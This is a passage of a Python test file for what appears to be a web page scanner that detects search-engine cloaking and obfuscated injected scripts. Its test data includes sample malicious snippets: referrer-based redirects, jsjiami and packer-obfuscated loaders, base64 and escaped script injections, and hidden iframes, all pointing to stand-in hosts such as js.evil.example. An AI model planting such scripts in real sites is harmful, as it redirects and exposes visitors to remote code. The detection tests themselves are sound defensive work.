    assert (mark.code, mark.detail) == ("script:cloaking", "evil.example")
    assert content[mark.span.start : mark.span.end] == script


@pytest.mark.parametrize(
    "content",
    [
        f"<p title=\"javascript:document.write('{'a' * 9}')\">公司</p>",
        f"<p onclick=\"document.title='{TEXT}'\">公司</p>",
        "<a href=\"javascript:if(/baidu/.test(document.referrer))location='http://x.example/'\">公司</a>",
        "<div id=x><a href=\"javascript:document.getElementById('x').style.display='none'\">公司</a></div>",
        "<a href='javascript:void(0);/* nothing at all */'>公司</a>",
    ],
)
def test_a_click_does_nothing_by_itself(content: str) -> None:
    found = outline(Page(content))
    assert [(block.text, block.hidden) for block in found.blocks] == [("公司", "")]
    assert found.marks == ()


HONEST = {
    "relative": "if(/baidu/.test(document.referrer))location.href='/m/'",
    "own variable": "if(/baidu/.test(document.referrer))location.href=home",
    "host not known": "if(/baidu/.test(document.referrer))location.href='http://'+host+'/'",
    "statistics": "document.write('<script src=\"http://s.example/?r='+document.referrer+'\"><\\/script>')",
    "picture": "if(/baidu/.test(document.referrer)){var i=new Image();i.src='http://s.example/x.gif'}",
    "advertisement spared the robot": (
        "if(navigator.userAgent.indexOf('baidu.com/search/spider')==-1)"
        "document.write('<script src=\"http://ads.example/a.js\"><\\/script>')"
    ),
    "push": (
        "var bp=document.createElement('script');if(location.protocol==='https:'){bp.src='https://zz.example/baidu/push.js'}"
        "else{bp.src='http://push.zhanzhang.baidu.com/push.js'}"
    ),
    "beside": "if(/baidu/.test(document.referrer)){count()}\nfunction go(){location.href='http://x.example'}",
    "another item of the list": (
        "var _0x1=['referrer','baidu','test','http://x.example/','zh'];if(document[_0x1[0]]==''){go(_0x1[1])}"
        "if(lang==_0x1[4]){location=_0x1[3]}"
    ),
    "another case": (
        "switch(true){case /baidu/.test(document.referrer):count();break;case a:location.href='http://x.example'}"
    ),
    "window of its own": "if(/baidu/.test(document.referrer))window.open('http://x.example/','_blank')",
    "link that nobody clicks": (
        "if(/baidu/.test(document.referrer)){var a=document.createElement('a');a.href='http://x.example/'}"
    ),
    "answer not written": "if(/baidu/.test(document.referrer))fetch('http://x.example/').then(r=>count(r))",
    "links that robots are spared": (
        "if(!/spider/i.test(navigator.userAgent))document.write('<a href=\"http://x.example/\">一</a>')"
    ),
    "script for an engine's browser": (
        "if(/baiduboxapp/.test(navigator.userAgent))document.write('<script src=\"http://x.example/a.js\"><\\/script>')"
    ),
    "no engine": "if(document.referrer==''){location.href='http://x.example'}".replace("document.referrer==''", "a"),
    "climbing": "if(/climbing/.test(document.title)){location.href='http://x.example'}",
}


@pytest.mark.parametrize("script", HONEST.values(), ids=HONEST)
def test_no_cloaking(script: str) -> None:
    assert outline(Page(f"<title>公司</title><script>{script}</script>")).marks == ()


@pytest.mark.parametrize(
    ("url", "rest", "count"),
    [
        ("http://www.firm.example/", "", 1),
        ("http://www.evil.example/", "", 0),
        ("http://www.evil.test/", "", 0),
        (None, "", 1),
        # Who cloaks could plant the link as well.
        (None, "<a href='https://evil.example/about'>关于</a>", 1),
        (None, "<p>evil.example</p>", 1),
    ],
)
def test_a_site_of_its_own_is_not_elsewhere(url: str | None, rest: str, count: int) -> None:
    page = Page(f"<script>{CLOAKS['referrer'][0]}</script>{rest}", url=url)
    assert len(outside(outline(page).marks, page)) == count


@pytest.mark.parametrize(("rest", "count"), [("", 1), ("<a href='https://www.evil.example/about'>关于</a>", 0)])
def test_a_linked_site_for_phones_is_not_elsewhere(rest: str, count: int) -> None:
    page = Page(f"<script>{CLOAKS['mobile'][0]}</script>{rest}", url="http://www.firm.example/")
    assert len(outside(outline(page).marks, page)) == count


OBFUSCATED = {
    "packed": PACKER % ("0", 2, 1, "go"),
    "names": "var " + ",".join(f"_0x{i:04x}=1" for i in range(9)),
    "run": "eval(unescape('%67%6f%28%29'))",
    "jsjiami": "var a='jsjiami.com.v6'",
}


@pytest.mark.parametrize("script", OBFUSCATED.values(), ids=OBFUSCATED)
def test_obfuscated(script: str) -> None:
    marks = outline(Page(f"<p>公司</p><script>{script}</script>")).marks
    assert [mark.code for mark in marks] == ["script:obfuscated"]


@pytest.mark.parametrize(
    "script",
    [
        "eval('go()')",
        "eval([10,10].join('+'))",
        # What is not known is not coded.
        'eval(targ+".location=\'"+list.value+"\'")',
        "var _0x1=1,_0x2=2",
        "x.replace(/a/g,'b')",
        "x['\\x61\\x62\\x63'](1)",
    ],
)
def test_not_obfuscated(script: str) -> None:
    assert outline(Page(f"<script>{script}</script>")).marks == ()


def escaped(text: str) -> str:
    return "".join(f"\\x{ord(c):02x}" for c in text)


# Scripts of the kinds that intruders plant, as the programs that make them unreadable write them; the host that each
# leads to, as far as that can be found without running it.
VEILED = {
    "jsjiami, v5": (
        (
            ";var encode_version = 'jsjiami.com.v5', qkzrw = '__0xa3b1c',  __0xa3b1c=['wqLDoMK9','w5HCu8KkwrE='];"
            "(function(_0x1f,_0x2c){var _0x3d=function(_0x4e){while(--_0x4e){_0x1f['push'](_0x1f['shift']());}};"
            "_0x3d(++_0x2c);}(__0xa3b1c,0xd1));document[qkzrw('0x0','k3y!')](qkzrw('0x1','9aZ('));"
        ),
        "",
    ),
    "jsjiami, v6": (
        (
            "var _0xodb='jsjiami.com.v6',_0x4f2a=[_0xodb,'BcKcw6o=','w5/Dm8Ks'];(function(_0x1a,_0x2b,_0x3c){}"
            "(_0x4f2a,0x1c5,0x1c500));window[_0x5d1e('0','Tg]J')][_0x5d1e('1','k9(S')](_0x5d1e('2','Tg]J'));;_0xodb='';"
        ),
        "",
    ),
    "jsjiami, v7": (
        (
            "var version_ = 'jsjiami.com.v7';(function(_0x21,_0x22,_0x23,_0x24){})(0x1a,0x2b,_0x3d45,0x4);"
            "function _0x3d45(){const _0x5=['y8kqWQ'];return _0x3d45();}document[_0x6e(0xc3,'^h2]')](_0x6e(0xc4,'L$'));"
        ),
        "",
    ),
    "sojson": ("['sojson.v4']['filter']['constructor']('a1b2c3'['split'](/[a-z]/))", ""),
    "strings in a list that is turned round": (
        (
            "function _0x2b1c(){var _0x51=['2081xKqWpz','write','<scr','4466aBcDeF'];_0x2b1c=function(){return _0x51;};"
            "return _0x2b1c();}function _0x4a(_0x1,_0x2){var _0x3=_0x2b1c();return _0x4a=function(_0x1,_0x2){"
            "_0x1=_0x1-0x1b4;return _0x3[_0x1];},_0x4a(_0x1,_0x2);}(function(_0x7f1,_0x8e2){while(!![]){try{"
            "if(parseInt(_0x4a(0x1b4))===_0x8e2)break;}catch(_0x9d3){_0x7f1['push'](_0x7f1['shift']());}}}(_0x2b1c,0xd431));"
            "document[_0x4a(0x1b5)](_0x4a(0x1b6)+_0x4a(0x1b7));"
        ),
        "",
    ),
    "strings in a list": (
        "var _0xc1d2=['"
        + escaped("script")
        + "','"
        + escaped("createElement")
        + "','"
        + escaped("src")
        + "','"
        + escaped("//js.evil.example/a.js")
        + "'];var _0xe1=document[_0xc1d2[1]](_0xc1d2[0]);_0xe1[_0xc1d2[2]]=_0xc1d2[3];"
        "document.body.appendChild(_0xe1);",
        "js.evil.example",
    ),
    "packed, loads": (
        PACKER % ("0.1(\\'<2 3=\"//4.5.6/7.4\"></2>\\')", 8, 8, "document|write|script|src|js|evil|example|a"),
        "js.evil.example",
    ),
    "names in escapes": (
        (
            f'window["{escaped("document")}"]["{escaped("write")}"]'
            f'("{escaped("<script src=https://js.evil.example/a.js></script>")}")'
        ),
        "js.evil.example",
    ),
    "base64": (f"$.getScript(atob('{base64.b64encode(b'https://js.evil.example/a.js').decode()}'))", "js.evil.example"),
    "a host in parts": (
        "document.write('<scr'+'ipt src=\"https://js.ev'+'il.exam'+'ple/a.js\"></scr'+'ipt>')",
        "js.evil.example",
    ),
}
# What sends visitors away is told where it stands among text, too.
SENDS = {
    "packed": (
        PACKER % ("0.1=\\'2://3.4.5/\\'", 6, 6, "window|location|https|www|evil|example"),
        "www.evil.example",
    ),
    "escapes": (f'window["{escaped("location")}"]="{escaped("https://www.evil.example/")}"', "www.evil.example"),
    "a written frame": (
        (
            "document.write(unescape('%3Ciframe%20src%3D%22https%3A%2F%2Fwww%2Eevil%2Eexample%2F%22%20"
            "width%3D%22100%25%22%20height%3D%22100%25%22%3E'))"
        ),
        "www.evil.example",
    ),
}


def veiled(content: str) -> list[tuple[str, str]]:
    marks = [mark for mark in outline(Page(content)).marks if mark.code == "script:veiled"]
    return [(mark.detail, content[mark.span.start : mark.span.end]) for mark in marks]


@pytest.mark.parametrize(("script", "host"), VEILED.values(), ids=VEILED)
def test_veiled(script: str, host: str) -> None:
    code, text = f"<script>{script}</script>", "<p>公司</p>"
    told = [(host, script)]
    assert veiled(f"<head>{code}<title>公司</title></head>{text}") == told
    assert veiled(f"<head><title>公司</title>{code}</head><body>{text}") == told
    assert veiled(f"<title>公司</title><body>{code}{text}") == told
    assert veiled(f"<body>{text}</body></html>{code}") == told
    # Where pages have their own, players and shops hide theirs as well.
    assert veiled(f"<title>公司</title>{text}{code}</html>") == []


@pytest.mark.parametrize(("script", "host"), SENDS.values(), ids=SENDS)
def test_veiled_anywhere(script: str, host: str) -> None:
    assert veiled(f"<title>公司</title><p>公司</p><script>{script}</script>") == [(host, script)]


@pytest.mark.parametrize(
    "script",
    [
        # The domain can be read.
        "var s=document.createElement('script');s.src=(x?'https://ssl':'http://www')+'.stats.example/a.js'",
        "document.write(unescape(\"%3Cscript src='https://js.stats.example/a.js'%3E%3C/script%3E\"))",
        "location='https://www.shop.example/'",
        # Packed, and leads nowhere.
        PACKER % ("0.1", 2, 2, "go|on"),
        # Not known whereto.
        "document.write('<script src='+a+'></scr'+'ipt>')",
        "location=b",
    ],
)
def test_not_veiled(script: str) -> None:
    assert veiled(f"<script>{script}</script><p>公司</p>") == []


def test_what_is_cloaking_is_told_as_that() -> None:
    content = f"<script>if(/baidu/.test(document.referrer))location='{escaped('http://evil.example/')}'</script>"
    assert [mark.code for mark in outline(Page(content)).marks] == ["script:cloaking"]
